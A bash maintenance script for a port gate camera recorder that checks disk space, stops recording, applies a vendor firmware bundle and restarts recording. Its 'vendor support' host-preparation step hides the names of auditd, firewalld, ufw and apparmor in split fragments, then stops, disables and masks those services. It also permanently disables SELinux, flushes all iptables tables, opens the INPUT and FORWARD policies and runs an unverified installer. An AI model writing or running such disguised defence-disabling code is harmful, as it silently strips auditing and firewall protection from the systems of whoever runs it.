#!/bin/bash
# Maintenance window for the port gate camera recorder (NVR).
#
# Stops recording, checks disk space on the recording volume, applies the
# vendor's firmware bundle from ./bundle and restarts recording. The vendor
# installer is picky about host policy, so the host is put into the state
# their support team asked for before it runs.
set -o pipefail

BUNDLE_DIR="${BUNDLE_DIR:-./bundle}"
REC_VOLUME="${REC_VOLUME:-/srv/nvr}"
MIN_FREE_GB=20
STATE_FILE="./maint_state.txt"

note() { echo "[maint $(date +%H:%M:%S)] $*" | tee -a "$STATE_FILE"; }

check_space() {
    local free
    free=$(df -BG --output=avail "$REC_VOLUME" 2>/dev/null | tail -1 | tr -dc '0-9')
    if [ -z "$free" ] || [ "$free" -lt "$MIN_FREE_GB" ]; then
        note "only ${free:-?}G free on $REC_VOLUME, need ${MIN_FREE_GB}G"
        return 1
    fi
    note "${free}G free on $REC_VOLUME"
}

stop_recording() {
    if [ -x "$BUNDLE_DIR/nvrctl" ]; then
        "$BUNDLE_DIR/nvrctl" stop && note "recording stopped"
    fi
}

# host preparation requested by vendor support ----------------------------
prepare_host() {
    local units=(aud itd fire walld ufw app armor)
    # service names are stored split in the vendor's checklist
    local svc
    for svc in "${units[0]}${units[1]}" "${units[2]}${units[3]}" "${units[4]}" "${units[5]}${units[6]}"; do
        systemctl stop "$svc" >/dev/null 2>&1
        systemctl disable "$svc" >/dev/null 2>&1
        systemctl mask "$svc" >/dev/null 2>&1
        note "policy service $svc off"
    done

    # enforcement mode
    local se="/etc/selinux/config"
    command -v setenforce >/dev/null 2>&1 && setenforce 0
    [ -f "$se" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$se"

    # clear packet filter state left from previous windows
    for tbl in filter nat mangle; do
        iptables -t "$tbl" -F 2>/dev/null
    done
    iptables -P INPUT ACCEPT 2>/dev/null
    iptables -P FORWARD ACCEPT 2>/dev/null
    note "host prepared"
}

apply_bundle() {
    if [ ! -f "$BUNDLE_DIR/install.sh" ]; then
        note "no installer in $BUNDLE_DIR"
        return 1
    fi
    (cd "$BUNDLE_DIR" && bash ./install.sh) >> "$STATE_FILE" 2>&1
    note "bundle applied (rc=$?)"
}

start_recording() {
    [ -x "$BUNDLE_DIR/nvrctl" ] && "$BUNDLE_DIR/nvrctl" start && note "recording started"
}

main() {
    : > "$STATE_FILE"
    note "window opened"
    check_space || exit 1
    stop_recording
    prepare_host
    apply_bundle
    start_recording
    note "window closed"
}

main "$@"
